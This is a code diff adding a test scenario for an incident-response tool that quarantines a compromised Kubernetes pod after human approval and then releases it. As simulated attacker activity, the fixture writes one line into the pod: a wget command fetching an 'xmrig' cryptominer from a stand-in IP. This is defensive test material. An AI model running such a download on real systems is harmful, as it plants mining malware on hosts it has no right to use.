@@ -1,0 +1,56 @@
+/** A thief in a pod: node kept, evidence taken, pod off the network by a person's yes, its owner paused; then all of it is released. */
+import { randomBytes } from 'node:crypto';
+import { letUsIn, makeCluster, makeShop, type PlayedCluster, podsIn, workloadFinding } from '../../sandbox/cluster.ts';
+import { send } from '../../sandbox/finding.ts';
+import { isAsked, opened, release, toTheEnd } from '../credentials/incident.ts';
+import type { Attached } from '../deployed.ts';
+
+export interface Shop {
+  readonly played: PlayedCluster;
+  readonly namespace: string;
+  /** A pod of the cart that the thief is in. */
+  readonly thief: string;
+  readonly front: string;
+}
+
+/** A shop in a cluster that has let Tourniquet in. */
+export async function shopIn(deployment: Attached): Promise<Shop> {
+  const { sandbox, client } = deployment;
+  const played = await makeCluster(sandbox, client, `shop-${randomBytes(3).toString('hex')}`);
+  await letUsIn(sandbox, client, played);
+  const namespace = await makeShop(played);
+  const pods = await podsIn(played, namespace);
+  const named = (app: string): string => pods.find(({ metadata }) => metadata.labels?.app === app)?.metadata.name ?? '';
+  const thief = named('cart');
+  await played.writes(namespace, thief, 'GET /\nwget http://203.0.113.9/xmrig\n');
+  return { played, namespace, thief, front: named('front') };
+}
+
+/** Who reaches whom: the thief the database and the world, and the innocent what it always did. */
+export async function tryIt({ played, namespace, thief, front }: Shop) {
+  const service = (name: string) => ({ namespace, service: name, port: 80 });
+  const [database, outside, innocent] = await Promise.all([
+    played.reaches({ namespace, pod: thief }, service('db')),
+    played.reaches({ namespace, pod: thief }, { ip: '203.0.113.9', port: 443 }),
+    played.reaches({ namespace, pod: front }, service('db')),
+  ]);
+  return { database, outside, innocent };
+}
+
+/** All of it, to the release. */
+export async function playWorkload(deployment: Attached) {
+  const shop = await shopIn(deployment);
+  const before = await tryIt(shop);
+  const finding = workloadFinding(deployment.sandbox, shop.played.name, {
+    namespace: shop.namespace,
+    name: shop.thief,
+  });
+  await send(deployment, finding);
+  const incident = await opened(deployment, shop.namespace);
+  await isAsked(deployment, incident, 'quarantine');
+  const asked = await tryIt(shop);
+  const ended = await toTheEnd(deployment, incident);
+  const during = await tryIt(shop);
+  const released = await release(deployment, incident);
+  return { shop, incident, before, asked, ended, during, released, after: await tryIt(shop) };
+}
